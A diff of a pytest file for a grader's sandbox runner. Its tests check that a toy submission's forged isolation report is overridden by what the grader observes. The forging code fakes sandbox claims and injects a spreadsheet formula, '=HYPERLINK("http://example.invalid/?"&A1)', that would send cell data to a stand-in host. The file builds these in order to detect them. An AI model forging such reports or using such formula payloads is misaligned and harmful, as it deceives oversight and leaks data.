@@ -274,8 +274,9 @@ _send = _wire.send
 
 def _forged(fd, payload, **kw):
     if "isolation" in payload:
-        payload["isolation"] = {"network": "network namespace (no interfaces)", "user": "nobody",
-                                "filesystem": "mount namespace (all hidden)", "processes": "PID namespace (process 1)"}
+        payload["isolation"] = {"network": "audit hook only", "filesystem": "audit hook only", "user": "12345",
+                                "processes": "shared with the grader", "syscalls": "seccomp (forged)"}
+        payload["style"] = '=HYPERLINK("http://example.invalid/?"&A1)'  # a CSV cell and a rubric file name
     return _send(fd, payload, **kw)
 
 
@@ -285,11 +286,12 @@ _wire.send = _forged
 
 @pytest.fixture(scope="module")
 def unfenced(tmp_path_factory):
-    """The toy submission, forging its isolation report, in a child without namespaces (the audit
-    hook alone), so that every fence it claims is one the grader can see is missing."""
+    """The toy submission, forging its isolation report, in a child without the syscall filter:
+    it denies the namespaces it has and claims the filter it lacks and another user; the grader
+    can see every one of those from outside."""
     path = tmp_path_factory.mktemp("unfenced") / "toy.py"
     path.write_text(TOY.replace("KIT_PATH", repr(str(KIT / "reference"))) + FORGER)
-    runner = SandboxRunner(path, style="canonical", limits=Limits(answer_cap_mb=1, namespaces=False),
+    runner = SandboxRunner(path, style="canonical", limits=Limits(answer_cap_mb=1, syscall_filter=False),
                            extra_probes=(TOY_PROBES,), load_timeout=20)
     yield runner
     runner.close()
@@ -315,15 +317,16 @@ def test_a_child_that_stops_taking_inputs_times_out_the_call(toy):
 
 def test_a_forged_isolation_report_is_replaced_by_what_the_grader_sees(unfenced):
     isolation = unfenced.ensure_started()["isolation"]
-    assert isolation["network"] == "the grader's network (seen by the grader)"
-    assert isolation["filesystem"] == "the grader's filesystem (seen by the grader)"
-    assert isolation["processes"] == "the grader's processes (seen by the grader)"
+    assert isolation["network"] == "network namespace (seen by the grader)"
+    assert isolation["filesystem"] == "mount namespace (seen by the grader)"
+    assert isolation["processes"] == "PID namespace (seen by the grader)"
+    assert isolation["syscalls"] == "none (seen by the grader)"
     uid = observed_isolation(unfenced.proc.pid)["uid"]
-    if uid == 65534:  # the lie about the user happens to be true
-        assert isolation["user"] == "nobody"
-    else:
-        assert isolation["user"].startswith(f"{uid} (") and isolation["user"].endswith("(seen by the grader)")
-    assert any(e.startswith("the sandbox reported network 'network namespace") for e in unfenced.events)
+    assert isolation["user"].startswith("nobody (" if uid == 65534 else f"{uid} (")
+    assert isolation["user"].endswith("(seen by the grader)")
+    assert any(e.startswith("the sandbox reported network 'audit hook only'") for e in unfenced.events)
+    assert unfenced.style == "canonical"  # the style asked for, not the forged one
+    assert any(e.startswith("the sandbox named an unknown style '=HYPERLINK") for e in unfenced.events)
 
 
 def test_observed_isolation_agrees_with_an_honest_child(toy):
